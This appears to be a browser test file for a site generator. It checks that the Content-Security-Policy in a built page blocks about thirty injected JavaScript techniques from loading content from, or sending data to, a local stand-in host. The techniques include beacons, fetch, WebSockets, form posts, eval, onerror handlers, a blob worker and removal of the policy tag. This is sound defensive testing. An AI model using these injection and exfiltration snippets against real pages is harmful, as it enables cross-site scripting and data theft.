"""What the policy in a page's head is worth: whatever gets into a page neither loads from elsewhere nor sends there."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from tests.browser.serving import serve
from tests.browser.windows import open_window
from tests.sites import copy_base, run_build

WAYS = {
    "a picture": "add('img', {src: there})",
    "a script": "add('script', {src: there})",
    "a style sheet": "add('link', {rel: 'stylesheet', href: there})",
    "something fetched ahead": "add('link', {rel: 'prefetch', href: there})",
    "a frame": "add('iframe', {src: there})",
    "a film": "add('video', {src: there, preload: 'auto'})",
    "an object": "add('object', {data: there})",
    "a font": "add('style', {textContent: `@font-face{font-family:x;src:url(${there})}body{font-family:x}`})",
    "a background": "document.body.setAttribute('style', `background:url(${there})`)",
    "a handler in a tag": "document.body.insertAdjacentHTML('beforeend', `<img src=x onerror=\"fetch('${there}')\">`)",
    "a script in the page": "add('script', {textContent: `fetch('${there}')`})",
    "a form": "add('form', {action: there, method: 'post', target: '_blank'}).submit()",
    "another base": "add('base', {href: there}); add('img', {src: 'x.png'})",
    "fetch": "fetch(there, {mode: 'no-cors'}).catch(() => 0)",
    "an old request": "const r = new XMLHttpRequest(); r.open('POST', there); r.send('x')",
    "a beacon": "navigator.sendBeacon(there, 'x')",
    "a socket": "new WebSocket(there.replace('http', 'ws'))",
    "a stream": "new EventSource(there)",
    "one of several pictures": "add('img', {srcset: `${there} 2x`})",
    "a drawing": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${there}'/></svg>`)",
    "a sound": "add('audio', {src: there, preload: 'auto'})",
    "a film's picture": "add('video', {poster: there})",
    "an icon": "add('link', {rel: 'icon', href: there})",
    "a module fetched ahead": "add('link', {rel: 'modulepreload', href: there})",
    "a module": "import(there).catch(() => 0)",
    "a style sheet in another": "add('style', {textContent: `@import url(${there});`})",
    "a rule by script": "document.styleSheets[0].insertRule(`html{background:url(${there})}`)",
    "a font by script": "new FontFace('x', `url(${there})`).load().catch(() => 0)",
    "a page in the page": "add('iframe', {srcdoc: `<img src='${there}'>`})",
    "a page as an address": "add('iframe', {src: `data:text/html,<img src='${there}'>`})",
    "words as a script": "eval(`fetch('${there}')`)",
    "a policy taken out": "document.querySelector('meta[http-equiv]').remove(); fetch(there).catch(() => 0)",
    "a worker": "new Worker(URL.createObjectURL(new Blob([`fetch('${there}')`])))",
}
"""Ways in which a page could reach another host, each tried in a page of the site as if it had come with its text."""
ADD = "const add = (tag, own) => document.head.appendChild(Object.assign(document.createElement(tag), own));"


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Give the address of another host, and what reached it."""
    reached: list[str] = []

    class Door(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            reached.append(self.request.recv(200).decode("utf-8", "replace"))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Door) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_address[1]}/", reached
        server.shutdown()


@pytest.mark.browser
def test_whatever_gets_into_a_page_reaches_no_other_host(tmp_path: Path, browser: Browser) -> None:
    """None of these ways leads anywhere; without the policy the same page lets them out, so they are real ones."""
    copy_base(tmp_path)
    assert run_build(tmp_path)[0] == 0
    page = (tmp_path / "output/index.html").read_text(encoding="utf-8")
    bare = page.replace("Content-Security-Policy", "X-None")
    assert bare != page
    (tmp_path / "output/bare.html").write_text(bare, encoding="utf-8")
    for name in ("index.html", "bare.html"):
        with elsewhere() as (there, reached), serve(tmp_path / "output") as server, open_window(browser) as window:
            window.page.goto(f"{server.origin}/{name}")
            for way, script in WAYS.items():
                own = f"there => {{ try {{ {ADD} {script} }} catch {{ /* refused at once */ }} }}"
                window.page.evaluate(own, f"{there}{way.replace(' ', '-')}")
            window.page.wait_for_timeout(1500)
            out = sorted({line.partition(" HTTP")[0] for line in reached})
        if name == "index.html":
            assert out == []
        else:
            assert len(out) >= len(WAYS) // 2, out
